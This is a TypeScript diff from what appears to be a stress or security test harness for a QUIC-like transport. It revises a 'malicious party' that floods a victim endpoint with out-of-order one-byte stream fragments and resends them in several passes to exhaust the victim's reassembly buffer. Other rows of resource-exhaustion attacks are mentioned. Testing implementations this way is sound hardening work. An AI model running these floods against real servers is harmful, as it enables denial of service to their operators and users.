@@ -14,31 +14,45 @@ const PACKETS_PER_BURST = 16;
 
 export interface PartyAttackResult { packets: number; frames: number }
 
-async function sendAll(party: MaliciousParty, frames: Frame[]): Promise<PartyAttackResult> {
-  const t0 = performance.now();
-  let packets = 0;
+/** Packs frames into packets of ≤ PACKET_FRAME_BYTES of frames, in order. */
+function pack(frames: Frame[]): Frame[][] {
+  const packets: Frame[][] = [];
   let batch: Frame[] = [];
   let size = 0;
-  const flush = async (): Promise<void> => {
-    if (batch.length === 0) return;
-    party.sendFrames(batch);
-    batch = [];
-    size = 0;
-    if (++packets % PACKETS_PER_BURST === 0) {
-      await party.drain();
-      const ahead = (packets / PARTY_PPS) * 1000 - (performance.now() - t0);
-      if (ahead > 0) await new Promise((r) => setTimeout(r, ahead));
-    }
-  };
   for (const f of frames) {
     const n = frameSize(f);
-    if (size + n > PACKET_FRAME_BYTES) await flush();
+    if (size + n > PACKET_FRAME_BYTES && batch.length > 0) { packets.push(batch); batch = []; size = 0; }
     batch.push(f);
     size += n;
   }
-  await flush();
+  if (batch.length > 0) packets.push(batch);
+  return packets;
+}
+
+/**
+ * Sends the frames, packed, at PARTY_PPS; `passes` times over with the same packet numbers
+ * (what a sender retransmitting unacknowledged packets does): a packet the victim lost
+ * (its socket buffer overflowed while it was busy) arrives on a later pass, one it already
+ * has is a cheap duplicate.
+ */
+async function sendAll(party: MaliciousParty, frames: Frame[], passes = 1): Promise<PartyAttackResult> {
+  const packets = pack(frames);
+  const firstPn = party.nextPn;
+  const t0 = performance.now();
+  let sent = 0;
+  for (let p = 0; p < passes; p++) {
+    party.nextPn = firstPn;
+    for (const batch of packets) {
+      party.sendFrames(batch);
+      if (++sent % PACKETS_PER_BURST === 0) {
+        await party.drain();
+        const ahead = (sent / PARTY_PPS) * 1000 - (performance.now() - t0);
+        if (ahead > 0) await new Promise((r) => setTimeout(r, ahead));
+      }
+    }
+  }
   await party.drain();
-  return { packets, frames: frames.length };
+  return { packets: sent, frames: frames.length };
 }
 
 /**
@@ -64,13 +78,13 @@ export async function hugeStreamIds(party: MaliciousParty, o: { streamIndices: n
  * sorted-array reassembly buffer. Never offset 0: nothing is ever in order, all of it
  * waits in reassembly.
  */
-export async function descendingFragments(party: MaliciousParty, o: { top: number; fragments: number }): Promise<PartyAttackResult> {
+export async function descendingFragments(party: MaliciousParty, o: { top: number; fragments: number; passes: number }): Promise<PartyAttackResult> {
   party.newEpoch();
   const id = party.streamId(0);
   const byte = new Uint8Array(1);
   const frames: Frame[] = [{ type: 'stream', id, offset: o.top - 1, fin: false, target: party.target, data: byte }];
   for (let i = 1; i < o.fragments && o.top - 1 - 2 * i > 0; i++) frames.push({ type: 'stream', id, offset: o.top - 1 - 2 * i, fin: false, data: byte });
-  return sendAll(party, frames);
+  return sendAll(party, frames, o.passes);
 }
 
 /** Row 3: `count` streams opened at once (beyond the victim's stream limit), one byte each. */
